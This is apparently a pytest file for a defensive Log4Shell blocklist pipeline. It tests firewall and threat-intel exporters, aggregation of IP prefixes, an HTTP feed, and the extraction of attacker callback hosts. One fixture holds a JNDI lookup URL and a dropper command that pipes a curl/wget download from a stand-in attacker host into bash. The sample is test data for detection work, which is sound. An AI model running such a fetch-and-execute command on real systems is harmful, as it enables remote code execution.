"""Export formats, the follower view, prefixes, callback hosts and the HTTP feed."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import timedelta

import msgspec
import pytest
import stix2
from prometheus_client import CollectorRegistry

from pipeline.aggregate import aggregate, prefix_entry
from pipeline.blocklist import BlocklistEntry, BlockPolicy, iso
from pipeline.config import BlocklistSettings
from pipeline.egress import (
    EgressEntry,
    command_hosts,
    egress_entry,
    new_state,
    observations,
)
from pipeline.events import Detection, Finding
from pipeline.exporters import EXPORTERS, Listing
from pipeline.feed import Feed, Snapshot, make_server
from pipeline.firewall import diff
from pipeline.follower import View, effective
from pipeline.metrics import Metrics

NOW = 1_700_000_000.0


def entry(
    address: str,
    level: str = "Critical",
    *,
    dry_run: bool = False,
    action: str = "block",
    addresses: int = 1,
    lease: float = 3600.0,
) -> BlocklistEntry:
    return BlocklistEntry(
        address=address,
        action=action,
        dry_run=dry_run,
        level=level,
        score=80.0,
        reasons=("1 working JNDI lookup",),
        first_seen=iso(NOW - 86400),
        last_seen=iso(NOW - 60),
        hits=3,
        days=1,
        addresses=addresses,
        expires_at=iso(NOW + lease),
        block_until=iso(NOW + 4 * lease),
    )


def callback(host: str, kind: str = "ipv4", lease: float = 3600.0) -> EgressEntry:
    return EgressEntry(
        host=host,
        type=kind,
        roles=("jndi-server",),
        schemes=("ldap",),
        ports=(1389,),
        sources=2,
        first_seen=iso(NOW - 86400),
        last_seen=iso(NOW - 60),
        expires_at=iso(NOW + lease),
        block_until=iso(NOW + 86400 + lease),
    )


ENTRIES = [
    entry("198.51.100.0/24", addresses=3),
    entry("198.51.100.7"),
    entry("203.0.113.9", "Dangerous"),
    entry("203.0.113.10", dry_run=True),
    entry("203.0.113.11", action="tag"),
    entry("2001:db8::7", lease=120.0),
]
HOSTS = [callback("192.0.2.66"), callback("ldap.attacker.test", "name")]


def listing(**changes: object) -> Listing:
    base: dict[str, object] = {
        "entries": ENTRIES,
        "egress": HOSTS,
        "settings": BlocklistSettings(),
        "now": NOW,
    }
    base.update(changes)
    return Listing(**base)  # type: ignore[arg-type]


def test_plain_holds_what_to_block_without_covered_dry_run_or_tag_entries() -> None:
    assert EXPORTERS["plain"](listing()).split() == [
        "198.51.100.0/24",
        "203.0.113.9",
        "2001:db8::7",
    ]
    assert EXPORTERS["plain"](listing(min_level="Critical")).split() == [
        "198.51.100.0/24",
        "2001:db8::7",
    ]


def test_json_and_csv_hold_every_live_entry_with_its_flags() -> None:
    lines = [json.loads(line) for line in EXPORTERS["json"](listing()).splitlines()]
    assert [e["address"] for e in lines] == [e.address for e in ENTRIES]
    assert [e["dry_run"] for e in lines] == [False, False, False, True, False, False]
    rows = EXPORTERS["csv"](listing()).splitlines()
    assert rows[0].startswith("address,action,dry_run,level,score")
    assert rows[4].startswith("203.0.113.10,block,True,Critical")
    assert len(rows) == len(ENTRIES) + 1


def test_nftables_script_declares_interval_timeout_sets_and_element_timeouts() -> None:
    script = EXPORTERS["nftables"](listing())
    assert (
        "add set inet l4s blocklist_v4 { type ipv4_addr; flags interval, timeout; }"
        in script
    )
    assert (
        "add element inet l4s blocklist_v4 { 198.51.100.0/24 timeout 3600s, "
        "203.0.113.9 timeout 3600s }" in script
    )
    assert "add element inet l4s blocklist_v6 { 2001:db8::7 timeout 120s }" in script
    assert script.index("flush set inet l4s blocklist_v4") < script.index("add element")
    nft = shutil.which("nft")
    if nft is None:
        pytest.skip(
            "nft is not installed: the script's syntax is not checked by nft itself"
        )
    checked = subprocess.run(
        [nft, "-c", "-f", "-"],
        input=script,
        text=True,
        capture_output=True,
        check=False,
    )
    if "Operation not permitted" in checked.stderr:
        pytest.skip("nft -c needs CAP_NET_ADMIN here")
    assert checked.returncode == 0, checked.stderr


def test_ipset_restore_lines_fill_a_staging_set_and_swap_it_in() -> None:
    lines = EXPORTERS["ipset"](listing()).splitlines()
    assert "create l4s-blocklist-v4 hash:net family inet timeout 0 -exist" in lines
    assert "add l4s-blocklist-v4-new 198.51.100.0/24 timeout 3600" in lines
    assert "add l4s-blocklist-v6-new 2001:db8::7 timeout 120" in lines
    assert lines.index("swap l4s-blocklist-v4-new l4s-blocklist-v4") > lines.index(
        "add l4s-blocklist-v4-new 203.0.113.9 timeout 3600"
    )
    assert not any("203.0.113.10" in line or "198.51.100.7" in line for line in lines)


def test_stix_bundle_has_an_indicator_per_address_and_per_callback_host() -> None:
    document = EXPORTERS["stix"](listing())
    bundle = stix2.parse(document, allow_custom=False)
    indicators = [o for o in bundle.objects if o.type == "indicator"]
    patterns = {i.pattern for i in indicators}

    assert len(indicators) == len(ENTRIES) + len(HOSTS)
    assert "[ipv4-addr:value ISSUBSET '198.51.100.0/24']" in patterns
    assert "[ipv6-addr:value = '2001:db8::7']" in patterns
    assert "[domain-name:value = 'ldap.attacker.test']" in patterns
    assert document == EXPORTERS["stix"](listing()), "identifiers are deterministic"


def test_egress_plain_lists_names_and_firewall_sets_take_addresses() -> None:
    chosen = listing(egress_only=True)
    assert EXPORTERS["plain"](chosen) == "192.0.2.66\nldap.attacker.test\n"
    assert "add element inet l4s blocklist_egress_v4 { 192.0.2.66 timeout 3600s }" in (
        EXPORTERS["nftables"](chosen)
    )
    assert chosen.notes == ["1 callback host names left out (addresses only)"]
    assert [json.loads(x)["host"] for x in EXPORTERS["json"](chosen).splitlines()] == [
        "192.0.2.66",
        "ldap.attacker.test",
    ]


def test_view_applies_records_and_tombstones_and_drops_ended_leases() -> None:
    view: View[BlocklistEntry] = View(BlocklistEntry)
    for e in ENTRIES:
        assert view.apply(e.address.encode(), msgspec.json.encode(e))
    assert not view.apply(b"203.0.113.9", msgspec.json.encode(ENTRIES[2])), (
        "same value: no change"
    )
    assert view.apply(b"203.0.113.9", None)
    assert not view.apply(b"bad", b"{not json")
    assert view.undecodable == 1

    assert len(view.live(NOW)) == len(ENTRIES) - 1
    assert [e.address for e in view.live(NOW + 600)] == [
        "198.51.100.0/24",
        "198.51.100.7",
        "203.0.113.10",
        "203.0.113.11",
    ]
    assert view.next_expiry(NOW) == NOW + 120


def test_effective_keeps_addresses_outside_every_blocked_prefix() -> None:
    chosen = effective([entry("198.51.100.0/25", addresses=4), entry("198.51.100.200")])
    assert [e.address for e in chosen] == ["198.51.100.0/25", "198.51.100.200"]


def test_prefix_aggregation_needs_the_threshold_and_spares_allowlisted_neighbours() -> (
    None
):
    settings = BlocklistSettings(aggregate_threshold=3, documentation_as_public=True)
    policy = BlockPolicy(settings)
    members = {a: entry(a) for a in ("198.51.100.1", "198.51.100.2", "198.51.100.3")}

    prefixes = aggregate(members, policy, NOW)
    assert list(prefixes) == ["198.51.100.0/24"]
    assert prefixes["198.51.100.0/24"].addresses == 3
    assert prefixes["198.51.100.0/24"].hits == 9
    assert aggregate(dict(list(members.items())[:2]), policy, NOW) == {}

    guarded = BlockPolicy(
        settings.model_copy(update={"never_block": ["198.51.100.128/32"]})
    )
    assert prefix_entry("198.51.100.0/24", members.values(), guarded, NOW) == (
        None,
        "never-block",
    )
    assert (
        aggregate(members, BlockPolicy(BlocklistSettings(aggregate_threshold=3)), NOW)
        == {}
    )


def test_callback_hosts_come_from_lookups_and_dropper_commands_not_from_paths() -> None:
    detection = Detection(
        event_id="f:1",
        timestamp=NOW,
        source_ip="203.0.113.50",
        findings=(
            Finding(
                field="user_agent.original",
                family="log4shell",
                url="ldap://192.0.2.9:1389/Basic/Command/Base64/x",
                scheme="ldap",
                host="192.0.2.9",
                port=1389,
                commands=(
                    "(curl -s 198.51.100.77:5874/203.0.113.50:443||wget -q -O- "
                    "http://dl.attacker.test/lh.sh)|bash;chmod +x lh.sh",
                ),
            ),
        ),
    )
    found = {(o.host, o.role) for o in observations(detection)}
    assert found == {
        ("192.0.2.9", "jndi-server"),
        ("198.51.100.77", "dropper"),
        ("dl.attacker.test", "dropper"),
    }
    assert command_hosts("wget lh.sh") == []


def test_egress_entries_spare_special_addresses_and_merge_idempotently() -> None:
    policy = BlockPolicy(BlocklistSettings(egress_lifetime=timedelta(days=7)))
    obs = observations(
        Detection(
            event_id="f:2",
            timestamp=NOW,
            source_ip="203.0.113.51",
            findings=(
                Finding(
                    field="url.original",
                    family="log4shell",
                    url="ldap://127.0.0.1/a",
                    scheme="ldap",
                    host="127.0.0.1",
                ),
            ),
        )
    )
    state = new_state(obs[0])
    assert state.merge(obs[0]) == state
    assert egress_entry("127.0.0.1", state, policy, NOW) == (None, "special")
    made, _ = egress_entry("ldap.attacker.test", state, policy, NOW)
    assert made is not None and made.type == "name" and made.sources == 1


def test_firewall_diff_refreshes_elements_whose_timeout_moved() -> None:
    current = {"198.51.100.7": 100, "203.0.113.9": 3000, "192.0.2.1": 50}
    remove, add, refreshed = diff(
        current, [("198.51.100.7", 98), ("203.0.113.9", 3600), ("2001:db8::7/128", 60)]
    )
    assert sorted(remove) == ["192.0.2.1", "203.0.113.9"]
    assert sorted(add) == [("2001:db8::7", 60), ("203.0.113.9", 3600)]
    assert refreshed == 1


@pytest.fixture
def feed_url() -> Iterator[tuple[str, Feed]]:
    feed = Feed(Metrics(CollectorRegistry()))
    server = make_server(feed, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", feed
    server.shutdown()
    server.server_close()


def _get(
    url: str, headers: dict[str, str] | None = None
) -> tuple[int, dict[str, str], str]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.status, dict(response.headers), response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read().decode()


def test_feed_serves_the_list_with_etag_and_reports_health(
    feed_url: tuple[str, Feed],
) -> None:
    url, feed = feed_url
    assert _get(f"{url}/healthz")[0] == 503, "not caught up yet"

    feed.update(
        Snapshot(
            tuple(
                entry(
                    e.address,
                    e.level,
                    dry_run=e.dry_run,
                    action=e.action,
                    addresses=e.addresses,
                    lease=10**9,
                )
                for e in ENTRIES
            ),
            tuple(callback(h.host, h.type, 10**9) for h in HOSTS),
            caught_up=True,
            polled=time.time(),
        )
    )

    status, headers, body = _get(f"{url}/blocklist.txt")
    assert status == 200 and body.split() == [
        "198.51.100.0/24",
        "203.0.113.9",
        "2001:db8::7",
    ]
    assert _get(f"{url}/blocklist.txt", {"If-None-Match": headers["ETag"]})[0] == 304
    status, _, critical = _get(f"{url}/blocklist.txt?min_level=Critical")
    assert critical.split() == ["198.51.100.0/24", "2001:db8::7"]
    assert _get(f"{url}/blocklist.txt?min_level=Severe")[0] == 400
    assert _get(f"{url}/healthz")[0] == 200
    assert _get(f"{url}/egress.txt")[2].split() == ["192.0.2.66", "ldap.attacker.test"]
    assert (
        'l4s_feed_requests_total{code="304",path="/blocklist.txt"} 1.0'
        in _get(f"{url}/metrics")[2]
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["follow"], "give either --output FILE or --apply"),
        (["follow", "--apply", "--format", "json"], "--apply works with --format"),
        (["export", "--format", "pdf"], "'pdf' is not one of"),
    ],
)
def test_blocklist_command_mistakes_give_one_readable_line(
    args: list[str], message: str
) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "blocklist", *args],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if line.startswith("l4s: ")]
    assert len(lines) == 1 and message in lines[0], result.stderr
    assert "Traceback" not in result.stderr
